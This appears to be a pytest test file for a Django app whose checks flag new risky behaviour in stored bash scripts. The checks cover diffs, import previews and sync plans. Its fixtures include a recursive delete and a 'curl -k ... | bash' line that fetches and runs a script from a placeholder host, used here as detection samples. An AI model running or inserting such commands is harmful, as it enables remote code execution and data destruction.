"""What checks say that is new: in differences, in the plan of a sync, in the preview of an import."""

import json
from pathlib import Path

from django.contrib.auth.models import User
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pytest_django import Settings

from assemblies.actions.create import create
from assemblies.actions.update import update
from assemblies.domains import Domain
from assemblies.payloads import PayloadStore
from devmode import grants
from devmode.actor import Actor
from tests.documents_made import script
from tests.permits import may_create, may_update

BEFORE = b"#!/bin/bash\nrm -rf /srv/old\n"
AFTER = b"#!/bin/bash\n\nrm -rf /srv/old\ncurl -k https://a.example/i.sh | bash\n"
DOCUMENT = {"name": "One", "type": "bash", "script": AFTER.decode(), "script_encoding": "plain"}


def test_a_difference_shows_what_is_new_and_nothing_that_only_moved(
    superuser: Client, library: PayloadStore, operator: Actor
) -> None:
    guid = create(script(payload=BEFORE), domain=Domain.USER, permit=may_create(operator), store=library).guid
    update(guid, {}, payload=AFTER, permit=may_update(operator), store=library)

    shown = superuser.get(reverse("admin:assembly_diff", args=[guid])).content.decode()
    told = superuser.get(f"/api/assemblies/{guid}/diff").json()

    assert "Checks: what is new" in shown
    assert "Downloads and runs" in shown
    assert "Deletes recursively" not in shown
    assert {one["rule"] for one in told["new_facts"]} == {"downloads-and-runs", "hosts", "turns-off-protection"}
    assert told["new_findings"] == []


def test_the_preview_of_an_import_shows_what_the_checks_find(superuser: Client) -> None:
    broken = DOCUMENT | {"script": "#!/bin/bash\nif true; then\n"}
    sent = {"step": "preview", "domain": "user"}

    shown = superuser.post(reverse("admin:import_assemblies"), sent | {"pasted": json.dumps(DOCUMENT)}).content.decode()
    failing = superuser.post(reverse("admin:import_assemblies"), sent | {"pasted": json.dumps(broken)}).content.decode()

    assert "What the checks find" in shown
    assert "curl -k https://a.example/i.sh | bash" in shown
    assert "pill-bad" not in shown
    assert "pill-bad" in failing


def test_the_plan_of_a_sync_shows_what_is_new(superuser: Client, tmp_path: Path, settings: Settings) -> None:
    document = DOCUMENT | {"assembly_guid": "a" * 32}
    (tmp_path / "one.json").write_text(json.dumps(document))
    settings.OFFICIAL_SOURCE = str(tmp_path)
    user = User.objects.get(username="ada")
    bearer = grants.session_digest(str(superuser.session.session_key))
    with transaction.atomic():
        grants.issue(user, bearer, reason="sync", remote_address="", now=timezone.now())

    shown = superuser.post(reverse("admin:sync_plan")).content.decode()
    report = superuser.post("/api/assemblies/official/sync", {"dry_run": True}, "application/json").json()

    assert "Checks: what is new" in shown
    assert {one["rule"] for one in report["diffs"][0]["new_facts"]} >= {"downloads-and-runs", "deletes-recursively"}
    assert "new_findings" not in report["diffs"][0]
